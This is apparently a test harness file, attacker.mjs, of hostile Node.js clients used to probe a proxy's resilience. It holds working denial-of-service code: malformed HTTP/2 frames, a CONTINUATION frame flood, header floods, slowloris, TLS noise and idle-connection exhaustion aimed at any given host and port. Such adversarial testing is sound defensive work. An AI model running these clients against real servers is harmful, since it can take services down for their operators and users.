// Hostile clients for the proxy's adversarial tests. Each mode prints one JSON line.
//   h2garbage HOST PORT      HTTP/2 preface, then malformed frames (bad SETTINGS length, HEADERS with broken HPACK,
//                            a frame larger than the max frame size, an unknown stream id WINDOW_UPDATE of 0)
//   continuation HOST PORT   HEADERS without END_HEADERS followed by endless CONTINUATION frames
//   headerflood HOST PORT    HTTP/1 requests with 2,000 headers and with a 64 KB header
//   slowloris HOST PORT N S  N connections each sending a request header one byte per second for S seconds
//   tlsgarbage HOST PORT N   N connections sending a TLS record header then random bytes; N more with pure noise
//   idle HOST PORT N S       N connections that send nothing, held for S seconds
import net from 'node:net';
import { randomBytes } from 'node:crypto';

const [mode, host, portArg, nArg, sArg] = process.argv.slice(2);
const port = Number(portArg);
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

/** Opens a socket, writes `chunks`, resolves with how the server reacted. */
function attempt(chunks, waitMs = 3000) {
  return new Promise((resolve) => {
    const s = net.connect({ host, port });
    let received = 0;
    let first = '';
    let all = Buffer.alloc(0);
    const t = setTimeout(() => {
      s.destroy();
      resolve({ closedByServer: false, received, first, goaway: goaway(all) });
    }, waitMs);
    s.on('connect', async () => {
      for (const c of chunks) {
        if (s.destroyed) break;
        s.write(c);
        await sleep(5);
      }
    });
    s.on('data', (d) => {
      if (!first) first = d.subarray(0, 40).toString('latin1');
      received += d.length;
      if (all.length < 65536) all = Buffer.concat([all, d]);
    });
    s.on('error', () => {});
    s.on('close', () => {
      clearTimeout(t);
      resolve({ closedByServer: true, received, first, goaway: goaway(all) });
    });
  });
}

/** Whether the bytes from the server hold an HTTP/2 GOAWAY frame (walking the frame headers). */
function goaway(buf) {
  for (let at = 0; at + 9 <= buf.length; ) {
    if (buf[at + 3] === 7) return true;
    at += 9 + buf.readUIntBE(at, 3);
  }
  return false;
}

const frame = (type, flags, stream, payload) => {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(stream, 5);
  return Buffer.concat([h, payload]);
};
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const SETTINGS = frame(4, 0, 0, Buffer.alloc(0));

if (mode === 'h2garbage') {
  const cases = {
    badSettingsLength: [PREFACE, frame(4, 0, 0, Buffer.alloc(7))],
    brokenHpack: [PREFACE, SETTINGS, frame(1, 0x5, 1, Buffer.from([0xff, 0xff, 0xff, 0xff, 0x7f, 0x00]))],
    oversizedFrame: [PREFACE, SETTINGS, frame(0, 0, 1, Buffer.alloc(70_000))],
    zeroWindowUpdate: [PREFACE, SETTINGS, frame(8, 0, 0, Buffer.alloc(4))],
    settingsOnStream: [PREFACE, frame(4, 0, 3, Buffer.alloc(0))],
    randomAfterPreface: [PREFACE, randomBytes(4096)],
  };
  const out = {};
  await Promise.all(Object.entries(cases).map(async ([name, chunks]) => (out[name] = await attempt(chunks, 8_000))));
  console.log(JSON.stringify(out));
} else if (mode === 'continuation') {
  // A valid HEADERS start (":method GET" indexed = 0x82) without END_HEADERS, then 20,000 CONTINUATIONs of junk headers.
  const cont = frame(9, 0, 1, Buffer.concat(Array.from({ length: 50 }, () => Buffer.from([0x40, 0x03, 0x61, 0x62, 0x63, 0x03, 0x78, 0x79, 0x7a]))));
  const chunks = [PREFACE, SETTINGS, frame(1, 0, 1, Buffer.from([0x82, 0x86, 0x84]))];
  for (let i = 0; i < 400; i++) chunks.push(Buffer.concat(Array.from({ length: 50 }, () => cont)));
  console.log(JSON.stringify(await attempt(chunks, 5000)));
} else if (mode === 'headerflood') {
  const many = 'GET / HTTP/1.1\r\nhost: x\r\n' + Array.from({ length: 2000 }, (_, i) => `x-h${i}: ${i}\r\n`).join('') + '\r\n';
  const big = `GET / HTTP/1.1\r\nhost: x\r\nx-big: ${'a'.repeat(65536)}\r\n\r\n`;
  console.log(JSON.stringify({ manyHeaders: await attempt([many]), hugeHeader: await attempt([big]) }));
} else if (mode === 'slowloris') {
  const n = Number(nArg);
  const seconds = Number(sArg);
  const req = 'GET / HTTP/1.1\r\nhost: web\r\nx-slow: ' + 'a'.repeat(seconds * 2);
  const started = Date.now();
  const results = await Promise.all(
    Array.from({ length: n }, () =>
      new Promise((resolve) => {
        const s = net.connect({ host, port });
        let i = 0;
        let timer;
        s.on('connect', () => {
          timer = setInterval(() => {
            if (i < req.length && !s.destroyed) s.write(req[i++]);
          }, 1000);
        });
        s.on('error', () => {});
        s.on('close', () => {
          clearInterval(timer);
          resolve(Date.now() - started);
        });
        setTimeout(() => {
          clearInterval(timer);
          s.destroy();
        }, seconds * 1000);
      }),
    ),
  );
  const cutBefore = results.filter((ms) => ms < seconds * 1000 - 500).length;
  console.log(JSON.stringify({ connections: n, cutByServer: cutBefore, maxHeldMs: Math.max(...results) }));
} else if (mode === 'tlsgarbage') {
  const n = Number(nArg);
  const rec = (i) => [Buffer.concat([Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00]), randomBytes(512 + i)])];
  const tls = await Promise.all(Array.from({ length: n }, (_, i) => attempt(rec(i))));
  const noise = await Promise.all(Array.from({ length: n }, () => attempt([randomBytes(1024)], 1500)));
  console.log(JSON.stringify({ tlsClosed: tls.filter((r) => r.closedByServer).length, tlsTotal: n, noiseAnswered: noise.length }));
} else if (mode === 'idle') {
  const n = Number(nArg);
  const sockets = [];
  let failed = 0;
  for (let i = 0; i < n; i++) {
    const s = net.connect({ host, port });
    s.on('error', () => failed++);
    sockets.push(s);
    if (i % 200 === 199) await sleep(20);
  }
  await sleep(Number(sArg) * 1000);
  const open = sockets.filter((s) => !s.destroyed && s.readyState === 'open').length;
  sockets.forEach((s) => s.destroy());
  console.log(JSON.stringify({ opened: n, stillOpen: open, failed }));
} else {
  console.error('usage: see the header of attacker.mjs');
  process.exit(2);
}
